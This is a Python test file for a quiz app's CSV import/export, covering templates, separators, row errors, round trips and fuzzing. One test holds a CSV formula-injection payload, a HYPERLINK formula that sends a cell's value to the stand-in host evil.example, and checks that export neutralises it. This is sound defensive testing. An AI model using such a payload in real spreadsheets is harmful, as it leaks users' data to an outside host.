"""CSV import and export: template, columns, formula safety, separators, line numbers, round trip, fuzzing."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from quiz_app.authoring.csv_format import COLUMNS, csv_template, export_csv, import_csv
from quiz_app.authoring.items import NO_EXPLANATION
from quiz_app.authoring.limits import ImportError_
from quiz_app.bank.models import QUESTION_TYPES, ShortAnswer, SingleChoice
from tests.authoring.helpers import DEFAULTS, SETTINGS, drop_images, never_crashes
from tests.authoring.strategies import SPECIAL, fuzz_text, packs

HEADER = ",".join(COLUMNS)


def _question(**changes) -> SingleChoice:
    data = {"id": "q-1", "type": "single_choice", "topic": "causes", "objectives": ["obj-a"], "difficulty": 1,
            "prompt": "Which?", "explanation": "Because.",
            "options": [{"text": "A", "correct": True}, {"text": "B"}]}
    return SingleChoice.model_validate({**data, **changes})


def test_template_has_a_header_and_imports_one_row_per_type() -> None:
    text = csv_template()
    rows = list(csv.reader(io.StringIO(text)))
    assert tuple(rows[0]) == COLUMNS
    assert [row[1] for row in rows[1:]] == [*QUESTION_TYPES, "flashcard"]
    preview = import_csv(text, DEFAULTS)
    assert (preview.rejected, preview.unmapped, preview.notes) == ([], [], [])
    assert [q.type for q in preview.questions] == list(QUESTION_TYPES)
    assert [card.front for card in preview.flashcards] == ["What currency does Kazakhstan use?"]
    assert all(q.topic == "general" and q.objectives == ["obj-default"] for q in preview.questions)
    assert preview.questions[0].options[0].correct and preview.questions[0].options[0].text == "Almaty"


def test_formula_prompt_round_trips_as_text() -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click for the answer")'
    questions = [_question(prompt=hostile, explanation="+1 point", tags=[]),
                 _question(id="q-2", prompt="'=already quoted", options=[{"text": "@sum", "correct": True},
                                                                          {"text": "-5"}])]
    text = export_csv(questions)
    for row in list(csv.reader(io.StringIO(text)))[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert "'=HYPERLINK" in text
    preview = import_csv(text, DEFAULTS)
    assert preview.questions == questions


def test_hand_written_file_with_semicolons_bom_crlf_and_multiline_cells() -> None:
    text = ("\ufeffType;Prompt;Options;Answer;Difficulty;Objectives;Tags;Explanation;Notes\r\n"
            "single choice;Which city?; *Almaty | Astana |;;3;\"obj-a; obj-b\";a-tag;\"Two\r\nlines\";private\r\n"
            "\r\n"
            'true-false;"A prompt\r\nover two lines";;yes;;;;;\r\n'
            "essay;Write.;;;;;;;\r\n"
            "true_false;Is it?;;maybe;;;;;\r\n"
            "short_answer;Which currency?;ignored;;1;;;;\r\n")
    preview = import_csv(text.encode(), DEFAULTS)
    first, second = preview.questions
    assert first.type == "single_choice" and first.difficulty == 3
    assert [(o.text, o.correct) for o in first.options] == [("Almaty", True), ("Astana", False)]
    assert first.objectives == ["obj-a", "obj-b"] and first.tags == ["a-tag"]
    assert first.explanation == "Two\r\nlines"
    assert second.prompt == "A prompt\r\nover two lines" and second.answer is True
    assert second.explanation == NO_EXPLANATION
    assert [(entry.line, entry.reason.split(";")[0]) for entry in preview.rejected] == [
        (7, "unknown type 'essay'"), (8, "'answer' must be true or false, not 'maybe'"),
        (9, "the 'answers' column is empty")]
    assert preview.rejected[2].reason.startswith("the 'answers' column is empty; a short_answer question needs it")
    assert [(entry.line, entry.item) for entry in preview.notes] == [(1, "header"), (9, "Which currency?")]
    assert re.fullmatch(r"t-which-city-[0-9a-f]{6}", first.id)
    assert re.fullmatch(r"t-a-prompt-over-two-lines-[0-9a-f]{6}", second.id)
    assert "'notes'" in preview.notes[0].reason and "'options'" in preview.notes[1].reason


def test_escapes_in_lists() -> None:
    text = HEADER + "\n" + ",".join([
        "", "multiple_select", "", "", "", "Pick", "", r"*a\|b|\*star|* \ spaced\ |c\\", "", "", "", "", ""]) + "\n" \
        + ",".join(["", "matching", "", "", "", "Match", "", "", "", "", r"1\=>2=>x|a=>b|c=>d\|e", "", ""]) + "\n"
    preview = import_csv(text, DEFAULTS)
    choose, match = preview.questions
    assert [(o.text, o.correct) for o in choose.options] == [("a|b", True), ("*star", False), (" spaced ", True),
                                                             ("c\\", False)]
    assert [(p.left, p.right) for p in match.pairs] == [("1=>2", "x"), ("a", "b"), ("c", "d|e")]


def test_row_problems_are_located() -> None:
    text = HEADER + "\n" + "\n".join([
        ",single_choice,,,,No options?,,,,,,,",
        "bad id,single_choice,,,,Q?,,*a|b,,,,,",
        ",single_choice,,,5,Q2?,,*a|b,,,,,",
        ",matching,,,,M?,,,,,a=>1|b,,",
        ",flashcard,,,,Front,,,,,,,",
        ",true_false,,,,Too many cells,,,true,,,,,extra",
        "q-dup,true_false,,,,One?,,,true,,,,",
        "q-dup,true_false,,,,Two?,,,true,,,,",
        ",true_false,,,,one?,,,false,,,,",
    ]) + "\n"
    preview = import_csv(text, DEFAULTS)
    assert [(entry.line, entry.item) for entry in preview.rejected] == [
        (2, "No options?"), (3, "bad id"), (4, "Q2?"), (5, "M?"), (6, "Front"), (7, "Too many cells"), (9, "q-dup"),
        (10, "one?")]
    reasons = [entry.reason for entry in preview.rejected]
    assert reasons[1].startswith("id: must be an id made of lowercase letters")
    assert reasons[2] == "difficulty must be 1, 2 or 3, not '5'"
    assert reasons[3] == "pair 2 must be written left=>right"
    assert "back" in reasons[4] and "13 columns" in reasons[5]
    assert reasons[6] == "the id 'q-dup' is already used on line 8"
    assert reasons[7] == "the same question text is already used on line 8"
    assert [q.prompt for q in preview.questions] == ["One?"]


@pytest.mark.parametrize(("text", "message"), [
    ("just some text\nmore", "header"),
    ("type,type,prompt\n", "twice"),
    ("id,type,topic\n", "no 'prompt' column"),
    ('type,prompt\ntrue_false,"unterminated\n' + "x\n" * 3, None),
    (b"PK\x03\x04rest", "zip file"),
    (b"type,prompt\n\xe9t\xe9,x\n", "not UTF-8.*line 2"),
])
def test_unusable_files_give_clear_errors(text, message) -> None:
    if message is None:
        never_crashes(import_csv, text, DEFAULTS)
        return
    with pytest.raises(ImportError_, match=message) as error:
        import_csv(text, DEFAULTS)
    assert not error.value.internal


def test_too_many_rows() -> None:
    rows = "\n".join(f",true_false,,,,Question {n}?,,,true,,,," for n in range(2001))
    with pytest.raises(ImportError_, match="more than 2,000 rows"):
        import_csv(HEADER + "\n" + rows, DEFAULTS)


def test_shipped_pack_round_trips(shipped_pack) -> None:
    preview = import_csv(export_csv(shipped_pack.questions, shipped_pack.flashcards), DEFAULTS)
    assert (preview.rejected, preview.notes) == ([], [])
    # CSV carries every field but pictures (see test_csv_cannot_carry_images)
    assert [drop_images(q.model_dump()) for q in preview.questions] == [
        drop_images(q.model_dump()) for q in shipped_pack.questions]
    assert [drop_images(c.model_dump()) for c in preview.flashcards] == [
        drop_images(c.model_dump()) for c in shipped_pack.flashcards]


@SETTINGS
@given(packs())
def test_round_trip(pack) -> None:
    """CSV carries every field of questions and flashcards exactly: the import equals the export."""
    preview = import_csv(export_csv(pack.questions, pack.flashcards), DEFAULTS)
    assert preview.rejected == [] and preview.notes == []
    assert preview.questions == list(pack.questions)
    assert preview.flashcards == list(pack.flashcards)


def test_short_answer_with_separators_round_trips() -> None:
    question = ShortAnswer.model_validate({
        "id": "s-1", "type": "short_answer", "topic": "t", "objectives": ["o"], "difficulty": 2, "prompt": "P",
        "explanation": "E", "answers": [" a|b ", "c\\", "*x", "=>y"]})
    assert import_csv(export_csv([question]), DEFAULTS).questions == [question]


@SETTINGS
@given(st.binary(max_size=300))
def test_fuzz_random_bytes(data: bytes) -> None:
    never_crashes(import_csv, data, DEFAULTS)


@SETTINGS
@given(fuzz_text())
def test_fuzz_random_rows(text: str) -> None:
    never_crashes(import_csv, HEADER + "\n" + text, DEFAULTS)


@SETTINGS
@given(packs(max_questions=4, max_cards=2), st.data())
def test_fuzz_mutated_export(pack, data) -> None:
    text = export_csv(pack.questions, pack.flashcards)
    for _ in range(data.draw(st.integers(1, 5))):
        at = data.draw(st.integers(0, len(text)))
        size = data.draw(st.integers(0, 6))
        piece = data.draw(st.sampled_from([*SPECIAL, '"', ",", "\n", "\x00"]) | st.text(max_size=3))
        text = text[:at] + piece + text[at + size:]
    preview = never_crashes(import_csv, text, DEFAULTS)
    if preview is not None:
        assert all(entry.line >= 1 and entry.reason for entry in (*preview.rejected, *preview.notes))
